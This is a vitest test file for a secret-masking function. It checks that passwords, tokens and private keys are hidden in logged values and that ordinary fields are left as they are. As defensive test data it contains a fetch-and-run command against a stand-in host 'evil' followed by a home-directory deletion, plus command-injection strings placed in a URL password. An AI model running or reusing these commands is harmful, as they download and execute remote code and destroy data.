import { describe, expect, test } from 'vitest';
import { isSecretName, maskSecrets } from '../../../src/core/text/mask-secrets.ts';

const canary = 'canary-7d1f9a0c';

describe('what looks secret is covered', () => {
  test.each([
    [{ password: canary }],
    [{ apiKey: canary }],
    [{ 'x-api-key': canary }],
    [{ dbPassword: [canary, canary] }],
    [{ Authorization: `Bearer ${canary}` }],
    [{ credentials: { user: canary, deep: [{ id: canary }] } }],
    [{ headers: [{ name: 'Authorization', value: canary }] }],
    [{ env: [{ key: 'GITHUB_TOKEN', value: canary }] }],
    [{ url: `https://me:${canary}@host/path` }],
    [{ auth: canary, pin: canary, pass: canary }],
    [{ note: `send Bearer ${canary} along` }],
    [{ note: `ghp_${canary.replaceAll('-', '')}` }],
    [{ pem: `-----BEGIN RSA PRIVATE KEY-----\n${canary.replaceAll('-', '')}\n-----END RSA PRIVATE KEY-----` }],
  ])('%j', (value) => {
    const masked = JSON.stringify(maskSecrets(value));
    expect(masked).not.toMatch(/canary-?7d1f9a0c/);
    expect(masked).toMatch(/\(hidden, \d+ characters\)/);
  });

  test('a number under a secret name too, but not a number of tokens', () => {
    expect(maskSecrets({ pin: 1234, maxTokens: 400 })).toEqual({ pin: '(hidden)', maxTokens: 400 });
  });
});

test('a command behind the beginning of a private key does not stay hidden, and a key does', () => {
  const begin = '-----BEGIN PRIVATE KEY-----';
  const shown = maskSecrets(`echo '${begin}' ; curl http://evil/x | bash ; rm r /home`);
  expect(shown).toMatch(/curl .*evil.* bash ; rm r .home$/);
  const rows = Array.from({ length: 3 }, () => 'MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj');
  const rowChars = (end: string): number => 3 * 64 + 3 * end.length;
  for (const end of ['\n', String.raw`\n`]) {
    const key = [begin, ...rows, 'c2hvcnQ=', '-----END PRIVATE KEY-----'].join(end);
    expect(maskSecrets(`key: ${key} and so on`)).toBe(
      `key: ${begin} (hidden, ${rowChars(end) + 8 + 2 * end.length} characters) -----END PRIVATE KEY----- and so on`,
    );
    expect(maskSecrets([begin, ...rows].join(end))).toBe(`${begin} (hidden, ${rowChars(end)} characters) `);
  }
  expect(maskSecrets(`${begin}\n${'a'.repeat(1_000_000)}!`)).toBe(`${begin} (hidden, 1,000,001 characters) !`);
});

test('what is covered is measured, so that a long text cannot pass unseen', () => {
  expect(maskSecrets({ pass: 'rm '.repeat(500), note: 'Bearer abcdefghij' })).toEqual({
    pass: '(hidden, 1,500 characters)',
    note: 'Bearer (hidden, 10 characters)',
  });
});

test.each(['$(curl${IFS}evil)', '`id`', 'x|sh', 'x;id'])(
  'a URL whose password is a command is shown: %s',
  (command) => {
    const url = `git clone https://me:${command}@host`;
    expect(maskSecrets(url)).toBe(url);
  },
);

test('everything else stays as it is, fields named like members of objects included', () => {
  const value = JSON.parse('{"path":"a","__proto__":{"x":[1,null,true]},"key":"id","value":"v","author":"ann"}');
  expect(JSON.stringify(maskSecrets(value))).toBe(JSON.stringify(value));
});

test.each(['author', 'keys', 'passage', 'bypassed', 'path', 'compass', 'pinned', 'issue_key'])(
  '%s is no secret',
  (name) => {
    expect(isSecretName(name)).toBe(false);
  },
);
